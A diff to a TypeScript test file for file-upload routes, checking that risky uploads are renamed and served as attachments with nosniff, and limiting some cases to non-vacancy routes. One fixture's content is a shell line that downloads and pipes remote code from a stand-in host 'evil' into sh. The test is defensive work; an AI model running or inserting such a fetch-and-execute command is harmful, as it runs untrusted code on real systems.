@@ -30,6 +30,8 @@ vi.setConfig({ testTimeout: 60_000, hookTimeout: 60_000 });
 const utf8 = (text: string) => new TextEncoder().encode(text);
 const PDF = utf8('%PDF-1.4\n');
 const ALL_ROUTES = [0, 1, 2, 3, 4, 5];
+/** Every route but the vacancy application (5), whose CV must be a document or a photo (400 CV_TYPE, vacancy-routes.test.ts). */
+const ANY_TYPE_ROUTES = [0, 1, 2, 3, 4];
 
 interface Refused {
   label: string;
@@ -82,16 +84,19 @@ interface Harmless {
   storedName: string;
   /** The type it is served with, sniffed from the bytes. */
   servedAs: string;
+  /** The routes that take it (all by default). */
+  routes?: number[];
 }
 
 const HARMLESS: Harmless[] = [
-  { label: 'a script named .txt', name: 'акт.txt', content: utf8('#!/bin/sh\ncurl http://evil | sh\n'), storedName: 'акт.txt', servedAs: 'text/plain; charset=utf-8' },
+  { label: 'a script named .txt', name: 'акт.txt', content: utf8('#!/bin/sh\ncurl http://evil | sh\n'), storedName: 'акт.txt', servedAs: 'text/plain; charset=utf-8', routes: ANY_TYPE_ROUTES },
   {
     label: 'a program under an unchecked extension',
     name: 'программа.bin',
     content: new Uint8Array([0x4d, 0x5a, 0x90, 0x00, 0x03, 0x00, 0x00, 0x00, 0x04, 0x00, 0xff, 0xff]),
     storedName: 'программа.bin',
     servedAs: 'application/octet-stream',
+    routes: ANY_TYPE_ROUTES,
   },
   { label: 'a name with characters Windows forbids', name: 'Акт <1> от 01:05|2026?.pdf', content: PDF, storedName: 'Акт _1_ от 01_05_2026_.pdf', servedAs: 'application/pdf' },
   { label: 'a Windows device name', name: 'con.pdf', content: PDF, storedName: '_con.pdf', servedAs: 'application/pdf' },
@@ -142,8 +147,8 @@ describe.each(REFUSED)('refused ($label): $name → $refused', ({ name, content,
   });
 });
 
-describe.each(HARMLESS)('made harmless: $label', ({ name, content, storedName, servedAs }) => {
-  it.each(ALL_ROUTES)('on upload route %i, downloaded as an attachment with nosniff', async (index) => {
+describe.each(HARMLESS)('made harmless: $label', ({ name, content, storedName, servedAs, routes: indexes = ALL_ROUTES }) => {
+  it.each(indexes)('on upload route %i, downloaded as an attachment with nosniff', async (index) => {
     count();
     const route = routes[index];
     if (!route) throw new Error(`no upload route ${index}`);
